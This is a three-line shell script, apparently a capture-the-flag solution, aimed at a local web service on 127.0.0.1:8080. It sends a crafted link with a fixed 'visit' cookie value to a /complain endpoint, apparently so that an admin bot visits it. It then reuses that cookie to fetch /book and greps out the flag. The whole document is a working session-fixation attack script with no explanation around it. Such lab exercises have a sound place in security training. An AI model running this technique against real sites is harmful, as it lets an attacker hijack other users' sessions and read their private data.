at=http://127.0.0.1:8080
curl -s -d 'link=/?visit=abcdefgh1234' $at/complain > /dev/null
curl -s -H 'Cookie: visit=abcdefgh1234' $at/book | grep -o 'flag{[A-Za-z0-9]*}'
